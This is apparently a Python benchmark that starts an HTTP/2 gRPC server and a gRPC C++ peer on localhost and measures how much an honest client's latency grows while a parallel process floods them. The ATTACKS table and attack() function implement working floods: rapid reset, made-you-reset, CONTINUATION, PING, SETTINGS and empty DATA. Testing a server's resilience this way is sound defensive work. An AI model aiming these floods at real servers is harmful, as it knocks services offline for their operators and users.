"""How long an honest client waits while others attack, as a multiple of what it waits without them.

Each server has one core. The other is shared by the honest client (h2load, one call at a time) and the attacker, which
gets what the client leaves; a peer under the same attacks tells how much of the wait is the machine's.
"""

import contextlib
import multiprocessing
import os
import socket
import sys
import tempfile
import time
from pathlib import Path

from h2load import LOAD_CORE, load
from processes import Process, free_port, table, wait_for_port
from rpc_servers import SERVER_CORE, SERVICE, cpp_programs, fill, message

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "Conformance" / "Wire"))
from frames import *  # noqa: E402

SECONDS = 1.0
ROUNDS = 3
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS)
CALL = block(request("POST", SERVICE + "GetArticle", ("content-type", "application/grpc"), ("te", "trailers")))


def pieces(make, size=50):
    """What `make` returns for 0, 1, 2 …, joined in batches."""
    for start in range(0, 1_000_000, size):
        yield b"".join(make(index) for index in range(start, start + size))


def reset(index):
    stream = 2 * index + 1
    return frame(HEADERS, END_HEADERS, stream, CALL) + frame(RST_STREAM, 0, stream, u32(CANCEL))


def provoke(index):
    stream = 2 * index + 1
    return frame(HEADERS, END_HEADERS, stream, CALL) + frame(WINDOW_UPDATE, 0, stream, u32(0))


ATTACKS = {
    "rapid reset (CVE-2023-44487)": lambda: pieces(reset),
    "made you reset (CVE-2025-8671)": lambda: pieces(provoke),
    "CONTINUATION flood (CVE-2024-27316)": lambda: pieces(
        lambda index: frame(CONTINUATION, 0, 1, literal("x", "y" * 500)) if index else frame(HEADERS, 0, 1, CALL)),
    "PING flood": lambda: pieces(lambda _: frame(PING, 0, 0, b"12345678")),
    "SETTINGS flood": lambda: pieces(lambda _: frame(SETTINGS)),
    "empty DATA flood": lambda: pieces(
        lambda index: frame(DATA, 0, 1) if index else frame(HEADERS, END_HEADERS, 1, CALL)),
}


def attack(port, name, until):
    """Attacks on one connection after the other until the time has come."""
    os.sched_setaffinity(0, {LOAD_CORE})
    os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(("127.0.0.1", port), timeout=1) as connection:
            connection.sendall(PREFACE)
            for piece in ATTACKS[name]():
                if time.monotonic() >= until:
                    break
                connection.sendall(piece)


def run(bin_dir, _corpora):
    with tempfile.TemporaryDirectory() as scratch, contextlib.ExitStack() as stack:
        scratch = Path(scratch)
        body = message(scratch / "get", b"\x0a\x0aarticles/0")
        servers = {}
        for name, command, ready in [
            ("matiane-server", [bin_dir / "matiane-server", "--data-dir", scratch / "data", "--listen",
                                "127.0.0.1:PORT", "--threads", "1"], "serving on"),
            ("gRPC C++", [cpp_programs() / "grpc-cpp-server", "PORT"], "serving"),
        ]:
            port = free_port()
            command = [str(part).replace("PORT", str(port)) for part in command]
            servers[name] = (port, stack.enter_context(Process(command, core=SERVER_CORE, ready=ready)))
            wait_for_port(port)
        fill(bin_dir, f"127.0.0.1:{servers['matiane-server'][0]}")
        rows = []
        calm = {name: waits(port, body) for name, (port, _) in servers.items()}
        rows.append(["(nobody attacks)"] + [cell for name in servers for cell in (f"{calm[name][0]}", f"{calm[name][1]}")])
        for title in ATTACKS:
            row = [title]
            for name, (port, _) in servers.items():
                rounds = [under(title, port, body) for _ in range(ROUNDS)]
                middle = (percentiles[ROUNDS // 2] for percentiles in map(sorted, zip(*rounds)))
                row += [f"{attacked / alone:.1f}" for attacked, alone in zip(middle, calm[name])]
            rows.append(row)
        table("An honest client beside an attacker: µs when alone, and as a multiple of that",
              ["attack"] + [f"{name} {part}" for name in servers for part in ("p50", "p99")], rows)


def under(title, port, body):
    attacker = multiprocessing.get_context("fork").Process(
        target=attack, args=(port, title, time.monotonic() + SECONDS + 1), daemon=True)
    attacker.start()
    time.sleep(0.2)
    try:
        return waits(port, body)
    finally:
        attacker.terminate()
        attacker.join()


def waits(port, body):
    """The median and the 99th percentile of a call's time, in µs."""
    done = load(f"127.0.0.1:{port}", SERVICE + "GetArticle", body, 1, 1, seconds=SECONDS, timed=True)
    return done.percentile(0.5), done.percentile(0.99)
